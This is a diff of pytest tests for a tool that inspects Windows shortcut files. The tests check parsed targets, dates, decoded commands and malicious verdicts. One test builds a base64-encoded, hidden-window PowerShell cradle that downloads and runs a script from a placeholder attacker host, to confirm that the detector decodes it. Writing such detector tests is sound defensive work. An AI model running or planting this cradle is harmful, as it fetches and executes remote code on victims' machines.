@@ -9,11 +9,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from svc.assistant.findings import Finding as TypedFinding
-from svc.assistant.findings import Gap, ToolEvent, columns, with_facts
-from svc.assistant.findings import LooseFinding as Finding
+from svc.assistant.findings import Facts, Finding, Gap, ToolEvent, with_facts
 from svc.assistant.skills.indicators.findings import IndicatorFacts
 from svc.assistant.skills.shortcut import answer as section
+from svc.assistant.skills.shortcut.findings import ShortcutFacts, ShortcutPart, ShortcutTrait, ShortcutVerdict
 from svc.assistant.skills.shortcut.tool import inspect
 from tests.support import office_files as made
 
@@ -25,25 +24,25 @@ def run(data: bytes, name: str = "a.lnk") -> list[ToolEvent]:
     return list(inspect(io.BytesIO(data), source=name))
 
 
-def found(data: bytes, name: str = "a.lnk") -> list[Finding]:
-    return [item for item in run(data, name) if isinstance(item, (Finding, TypedFinding))]
+def found(data: bytes, name: str = "a.lnk") -> list[Finding[Facts]]:
+    return [item for item in run(data, name) if isinstance(item, Finding)]
 
 
 def traits(data: bytes, name: str = "a.lnk") -> set[str]:
-    return {
-        str(f.attributes["trait"]) for f in found(data, name) if f.kind == "shortcut_trait" and f.severity != "info"
-    }
+    items = with_facts(found(data, name), ShortcutTrait)
+    return {item.facts.trait for item in items if item.severity != "info"}
 
 
 def verdict(data: bytes, name: str = "a.lnk") -> str:
-    return next(str(f.attributes["verdict"]) for f in found(data, name) if f.kind == "shortcut_verdict")
+    [finding] = with_facts(found(data, name), ShortcutVerdict)
+    return finding.facts.verdict
 
 
 def test_a_shortcut_to_a_program_is_ordinary_and_tells_its_target():
     data = made.shortcut("C:\\Program Files\\Editor\\editor.exe")
-    [facts] = [f for f in found(data) if f.kind == "shortcut_facts"]
-    assert facts.attributes["target"] == "C:\\Program Files\\Editor\\editor.exe"
-    assert facts.attributes["created"] == "2024-01-17T21:20:00Z"
+    [facts] = with_facts(found(data), ShortcutFacts)
+    assert facts.facts.target == "C:\\Program Files\\Editor\\editor.exe"
+    assert facts.facts.created == "2024-01-17T21:20:00Z"
     assert verdict(data) == "ordinary"
 
 
@@ -82,27 +81,27 @@ def test_a_cradle_in_disguise_is_malicious_and_shown_whole():
 def test_an_encoded_command_is_decoded_and_its_address_is_an_indicator():
     encoded = base64.b64encode("IEX (iwr http://evil-host.top/b.ps1)".encode("utf-16-le")).decode()
     items = found(made.shortcut(POWERSHELL, f"-w hidden -enc {encoded}"))
-    assert "decoded code" in {columns(f).get("part") for f in items}
+    assert "decoded code" in {f.facts.part for f in with_facts(items, ShortcutPart)}
     assert "http://evil-host.top/b.ps1" in {f.facts.value for f in with_facts(items, IndicatorFacts)}
 
 
 def test_a_date_that_no_calendar_has_is_left_out():
     data = bytearray(made.shortcut(POWERSHELL))
     data[28:36] = (2_999_999_999_999_999_999).to_bytes(8, "little")
-    [facts] = [item for item in found(bytes(data)) if item.kind == "shortcut_facts"]
-    assert facts.attributes["created"] is None
+    [facts] = with_facts(found(bytes(data)), ShortcutFacts)
+    assert facts.facts.created is None
 
 
 def test_damaged_link_information_leaves_the_arguments():
     data = bytearray(made.shortcut(POWERSHELL, CRADLE))
     data[80:104] = b"\xff" * 24  # everything but its size
-    [facts] = [item for item in found(bytes(data)) if item.kind == "shortcut_facts"]
-    assert facts.attributes["arguments"] == CRADLE
+    [facts] = with_facts(found(bytes(data)), ShortcutFacts)
+    assert facts.facts.arguments == CRADLE
 
 
 def test_what_is_no_shortcut_is_a_gap():
     items = run(b"[InternetShortcut]")
-    assert not [item for item in items if isinstance(item, (Finding, TypedFinding))]
+    assert not [item for item in items if isinstance(item, Finding)]
     assert any(isinstance(item, Gap) for item in items)
 
 
